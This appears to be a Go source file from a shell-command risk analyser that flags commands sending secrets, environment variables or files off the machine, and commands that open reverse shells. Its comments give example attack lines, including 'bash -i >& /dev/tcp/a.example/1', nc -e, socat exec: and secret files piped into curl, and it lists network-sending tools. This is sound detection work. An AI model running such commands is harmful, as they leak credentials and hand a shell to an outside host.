package risk

import (
	"strings"

	"github.com/elicit-engine/elicit/engine/elicit"
	"github.com/elicit-engine/elicit/engine/impact"
	"github.com/elicit-engine/elicit/engine/internal/guarded"
)

// Three ways are looked at: a pipe (cat key | curl -d @-), a word ($(cat key), -d @key), and the way over variables and
// files, which leaks in flow.go follows only if the first two have found nothing.
var commandExfiltrates = check{
	Doc: Doc{
		Code: "command_exfiltrates", Title: "Data leaves this machine", Severity: elicit.High,
		About: "The command sends files or settings away; kind says what. High for secret (a " +
			"key, a dotfile with passwords, the environment) and for shell (a shell whose input and output are a " +
			"connection); medium for upload, any other file. No finding for a file that goes to this machine itself.",
		Spec: "MITRE ATT&CK T1041, T1048; CWE-200",
	},
	command: func(h *hits, l *shellLine) {
		commandCheck(func(d *dangers, c *shellCommand) {
			switch {
			case impact.HasReader && reverseShell(c):
				d.add(elicit.High, "shell", c)
			case !impact.HasReader || !sends(c):
			// cat key | curl -d @- sends what upstream reads, and curl -d "$(cat key)" what stands inside of its words.
			case l.upstream(c, readsSecret) || l.inside(c, func(in *shellCommand) bool {
				return readsSecret(in) || l.upstream(in, readsSecret)
			}) || c.uploadsSecret():
				d.add(elicit.High, "secret", c)
			case c.uploads():
				d.add(elicit.Medium, "upload", c)
			}
		}, l.leaks)(h, l)
	},
}

// reverseShell reports whether a shell talks to a connection. bash -i >& /dev/tcp/a.example/1, nc -e, and socat exec:
// give a shell to whoever answers.
func reverseShell(c *shellCommand) bool {
	for i := range c.to {
		if _, is := impact.Connection(c.to[i].text); is && shells.Has(c.program) {
			return true
		}
	}
	switch c.program {
	case "nc", "ncat", "netcat":
		return c.flag("ec", "--exec") || c.has("--sh-exec")
	case "socat":
		for i := range c.args {
			if text := lowerASCII(c.args[i].text); strings.HasPrefix(text, "exec:") || strings.HasPrefix(text, "system:") {
				return true
			}
		}
	}
	return false
}

// sends reports whether a command can send what it is given over the network.
func sends(c *shellCommand) bool {
	switch c.program {
	case "curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "rsync", "sftp", "ftp", "ssh", "telnet", "rclone", "http",
		"https", "xh", "dig", "nslookup", "host", "ping", "mail", "mailx", "sendmail", "mutt", "iwr", "irm",
		"invoke-webrequest", "invoke-restmethod", "croc", "magic-wormhole", "wormhole":
		return true
	case "openssl":
		return c.starts("s_client")
	case "gh":
		return c.starts("gist", "create")
	case "aws":
		return c.starts("s3", "cp") || c.starts("s3", "sync") || c.starts("s3", "mv")
	case "gsutil":
		return c.starts("cp") || c.starts("rsync")
	}
	for i := range c.to {
		if _, is := impact.Connection(c.to[i].text); is {
			return true
		}
	}
	return false
}

// readsSecret reports whether a command writes the environment or a secret file to its output. Programs that only look
// at names of files do not count, so "ls ~/.ssh | mail me" is no leak of a key.
func readsSecret(c *shellCommand) bool {
	switch c.program {
	// An env that runs another program has that program as its name here (shellCommand.program).
	case "printenv", "export", "declare", "env": // env that runs nothing
		return true
	case "set":
		return len(c.args) == 0
	case "security":
		return c.has("find-generic-password", "find-internet-password", "dump-keychain")
	case "echo", "printf", "ls", "test", "[", "stat", "find", "chmod", "chown", "ssh-keygen", "rm", "mkdir", "touch":
		return false
	}
	for i := range c.args {
		if guarded.SecretFile(c.args[i].text) {
			return true
		}
	}
	return c.program == "cat" && guarded.SecretFile(c.stdin)
}

// ownFlags are the flags after which a program reads a file for itself and does not send it. The key behind
// "curl --cert" opens the connection and is not sent. Blanks around each flag make a search for " -E " exact.
var ownFlags = map[string]string{"curl": " -K --config -E --cert --key --cacert --netrc-file -b --cookie -c " +
	"--cookie-jar -o --output -H --header -u --user ",
	"wget": " -O --output-document --certificate --private-key --ca-certificate ",
	"ssh":  " -i -F -o ", "scp": " -i -F -o -P -J -l -c -S ",
	"sftp": " -i -F -o ", "rsync": " -e --password-file --exclude-from "}

// uploadsSecret reports whether an argument is a secret file that is sent. "@", "<" and "=" stand before the file: -d
// @key, -F f=<key.
func (c *shellCommand) uploadsSecret() bool {
	// ssh -i key uses the key, and scp host:key . fetches it.
	if c.program == "ssh" || c.program == "rsync" && c.fromRemote() || c.program == "scp" && c.fromRemote() {
		return false
	}
	for i := range c.args {
		if i > 0 && strings.Contains(ownFlags[c.program], " "+c.args[i-1].text+" ") {
			continue
		}
		text := c.args[i].text
		if at := strings.LastIndexAny(text, "@<="); at >= 0 {
			text = text[at+1:]
		}
		if !strings.Contains(text, "://") && !strings.Contains(text, ":/") && guarded.SecretFile(text) {
			return true
		}
	}
	return false
}

// fromRemote reports whether the last argument is a place on this machine. "c:dir" may be a drive of Windows or a host.
// Behind sources that are all on other hosts it counts as a drive, because no file of this machine leaves then.
func (c *shellCommand) fromRemote() bool {
	last := len(c.args) - 1
	if last < 0 || !impact.Remote(c.args[last].text) {
		return true
	}
	for i := range c.args[:last] {
		text := c.args[i].text
		option := strings.HasPrefix(text, "-") || i > 0 && strings.Contains(ownFlags[c.program], " "+c.args[i-1].text+" ")
		if !option && (!impact.Remote(text) || impact.Drive(text)) {
			return false
		}
	}
	return last > 0 && impact.Drive(c.args[last].text)
}

// uploads reports whether a command sends a file to another machine.
func (c *shellCommand) uploads() bool {
	if c.toThisMachine() {
		return false
	}
	switch c.program {
	case "curl":
		for i := range c.args {
			text := c.args[i].text
			next := ""
			if i+1 < len(c.args) {
				next = c.args[i+1].text
			}
			switch {
			case text == "-T" || text == "--upload-file":
				return true
			case (text == "-d" || strings.HasPrefix(text, "--data")) && strings.Contains(next, "@"),
				(text == "-F" || text == "--form") && strings.ContainsAny(next, "@<"),
				strings.HasPrefix(text, "--data") && strings.Contains(text, "=@"), strings.HasPrefix(text, "-d@"):
				return true
			}
		}
		return false
	case "wget":
		for i := range c.args {
			if text := c.args[i].text; strings.HasPrefix(text, "--post-file") || strings.HasPrefix(text, "--body-file") {
				return true
			}
		}
		return false
	case "scp", "rsync":
		return !c.fromRemote()
	// They send what they read from a pipe. Without one, a person types.
	case "nc", "ncat", "netcat", "socat", "telnet":
		return c.piped
	case "gh":
		return true
	}
	return false
}

// toThisMachine reports whether an address among the arguments is this machine.
func (c *shellCommand) toThisMachine() bool {
	for i := range c.args {
		for _, own := range [...]string{"localhost", "127.0.0.1", "[::1]", "0.0.0.0"} {
			text := c.args[i].text
			if _, rest, ok := strings.Cut(text, "://"); ok {
				text = rest
			}
			if rest, ok := strings.CutPrefix(text, own); ok && (rest == "" || rest[0] == ':' || rest[0] == '/') {
				return true
			}
		}
	}
	return false
}
